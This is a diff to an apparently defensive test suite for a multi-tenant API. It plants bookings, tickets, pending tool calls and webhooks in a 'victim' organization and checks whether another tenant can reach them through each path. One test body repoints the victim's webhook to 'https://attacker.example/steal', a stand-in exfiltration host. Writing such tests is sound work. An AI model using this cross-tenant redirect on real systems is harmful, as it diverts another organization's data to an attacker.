@@ -75,6 +75,106 @@ async function configItem(victim: CreatedOrganization, path: string, json: unkno
 
 const templateBody = { name: "Victim prompt", templateType: "custom", content: "{{conversation}}" };
 
+const tomorrow = new Date(Date.now() + 86_400_000);
+
+/** A bookable calendar for the victim, once: a meeting type and tomorrow open all day (UTC). */
+const calendars = new Map<string, Promise<string>>();
+function victimCalendar(victim: CreatedOrganization): Promise<string> {
+  const existing = calendars.get(victim.organization.id);
+  if (existing) return existing;
+  const setup = (async () => {
+    const slug = `consult-${crypto.randomUUID().slice(0, 8)}`;
+    await created(
+      await call("/v1/meeting-types", {
+        method: "POST",
+        token: victim.apiKey.key,
+        json: { name: "Consultation", slug, durationMinutes: 30, minimumNoticeMinutes: 0 },
+      }),
+    );
+    await created(
+      await call("/v1/business-hours", {
+        method: "POST",
+        token: victim.apiKey.key,
+        json: { dayOfWeek: tomorrow.getUTCDay(), opensAt: "00:00", closesAt: "24:00" },
+      }),
+    );
+    return slug;
+  })();
+  calendars.set(victim.organization.id, setup);
+  return setup;
+}
+
+let bookedHour = 0;
+async function booking(victim: CreatedOrganization): Promise<Planted> {
+  const meetingType = await victimCalendar(victim);
+  const startsAt = `${tomorrow.toISOString().slice(0, 10)}T${String(bookedHour++ % 24).padStart(2, "0")}:00:00.000Z`;
+  const body = await created<{ booking: { id: string } }>(
+    await call("/v1/bookings", {
+      method: "POST",
+      token: victim.apiKey.key,
+      json: { meetingType, startsAt, customer: { email: "victim-booker@example.com" } },
+    }),
+  );
+  const id = body.booking.id;
+  return {
+    params: { id },
+    read: async () => [
+      await (await call(`/v1/bookings/${id}`, { token: victim.apiKey.key })).json(),
+      await (await call(`/v1/bookings/${id}/history`, { token: victim.apiKey.key })).json(),
+    ],
+  };
+}
+
+async function ticket(victim: CreatedOrganization): Promise<Planted> {
+  const { params } = await conversation(victim);
+  const body = await created<{ ticket: { id: string } }>(
+    await call("/v1/tickets", {
+      method: "POST",
+      token: victim.apiKey.key,
+      json: { subject: "Victim's complaint", conversationId: params.id },
+    }),
+  );
+  const id = body.ticket.id;
+  return {
+    params: { id },
+    read: async () => [
+      await (await call(`/v1/tickets/${id}`, { token: victim.apiKey.key })).json(),
+      await (await call(`/v1/tickets/${id}/history`, { token: victim.apiKey.key })).json(),
+    ],
+  };
+}
+
+/** A tool call of the victim's waiting for a person's approval. */
+async function awaitingToolCall(victim: CreatedOrganization): Promise<Planted> {
+  await call("/v1/settings/tools/require_confirmation", {
+    method: "PUT",
+    token: victim.apiKey.key,
+    json: { value: ["capture_lead"] },
+  });
+  const response = await call("/v1/tools/capture_lead", {
+    method: "POST",
+    token: victim.apiKey.key,
+    json: { input: { name: "Victim lead", email: "victim-lead@example.com" } },
+  });
+  expect(response.status).toBe(202);
+  const { toolCall } = await response.json<{ toolCall: { id: string } }>();
+  return {
+    params: { id: toolCall.id },
+    read: async () => (await call(`/v1/tool-calls/${toolCall.id}`, { token: victim.apiKey.key })).json(),
+  };
+}
+
+async function webhookEndpoint(victim: CreatedOrganization): Promise<Planted> {
+  const item = await configItem(victim, "/v1/webhook-endpoints", { url: "https://victim.example/hooks" });
+  return {
+    params: item.params,
+    read: async () => [
+      await item.read(),
+      await (await call(`/v1/webhook-endpoints/${item.params.id}/deliveries`, { token: victim.apiKey.key })).json(),
+    ],
+  };
+}
+
 /** Every path of the API with a path parameter that names a tenant's resource. */
 const targets: Record<string, Target> = {
   "/v1/conversations/{id}": { plant: conversation },
@@ -107,6 +207,64 @@ const targets: Record<string, Target> = {
       });
     },
     bodies: { patch: { name: "defaced" } },
+  },
+  "/v1/bookings/{id}": { plant: booking },
+  "/v1/bookings/{id}/history": { plant: booking },
+  "/v1/bookings/{id}/confirm": { plant: booking, bodies: { post: {} } },
+  "/v1/bookings/{id}/cancel": { plant: booking, bodies: { post: { reason: "attack" } } },
+  "/v1/bookings/{id}/complete": { plant: booking, bodies: { post: {} } },
+  "/v1/bookings/{id}/no-show": { plant: booking, bodies: { post: {} } },
+  "/v1/bookings/{id}/reschedule": {
+    plant: booking,
+    bodies: { post: { startsAt: `${tomorrow.toISOString().slice(0, 10)}T23:30:00.000Z` } },
+  },
+  "/v1/meeting-types/{id}": {
+    plant: (victim) =>
+      configItem(victim, "/v1/meeting-types", {
+        name: "Victim type",
+        slug: `victim-${crypto.randomUUID().slice(0, 8)}`,
+        durationMinutes: 30,
+      }),
+    bodies: { patch: { durationMinutes: 5 } },
+  },
+  "/v1/holidays/{id}": {
+    plant: (victim) => configItem(victim, "/v1/holidays", { date: "2031-12-25", name: "Christmas" }),
+    bodies: { patch: { name: "Defaced" } },
+  },
+  "/v1/business-hours/{id}": {
+    plant: (victim) =>
+      configItem(victim, "/v1/business-hours", {
+        dayOfWeek: (tomorrow.getUTCDay() + 3) % 7,
+        opensAt: "09:00",
+        closesAt: "10:00",
+      }),
+    bodies: { patch: { closesAt: "23:00" } },
+  },
+  "/v1/calendar-feeds/{id}": {
+    plant: async (victim) => {
+      const { feed } = await created<{ feed: { id: string } }>(
+        await call("/v1/calendar-feeds", { method: "POST", token: victim.apiKey.key, json: { name: "Victim feed" } }),
+      );
+      return { params: { id: feed.id }, read: listed(victim, "/v1/calendar-feeds", feed.id) };
+    },
+  },
+  "/v1/webhook-endpoints/{id}": {
+    plant: webhookEndpoint,
+    bodies: { patch: { url: "https://attacker.example/steal" } },
+  },
+  "/v1/webhook-endpoints/{id}/deliveries": { plant: webhookEndpoint },
+  "/v1/tickets/{id}": { plant: ticket, bodies: { patch: { subject: "Defaced", priority: "low" } } },
+  "/v1/tickets/{id}/status": { plant: ticket, bodies: { post: { status: "closed" } } },
+  "/v1/tickets/{id}/history": { plant: ticket },
+  "/v1/tool-calls/{id}": { plant: awaitingToolCall },
+  "/v1/tool-calls/{id}/approve": { plant: awaitingToolCall },
+  "/v1/tool-calls/{id}/reject": { plant: awaitingToolCall, bodies: { post: { reason: "attack" } } },
+  "/v1/tools/{name}": {
+    plant: async (victim) => ({
+      params: { name: "capture_lead" },
+      read: async () => (await call("/v1/leads", { token: victim.apiKey.key })).json(),
+    }),
+    notTenantScoped: { post: "names a tool, not a tenant's resource; the call acts in the caller's organization" },
   },
   "/v1/agents/{id}": {
     plant: async (victim) => {
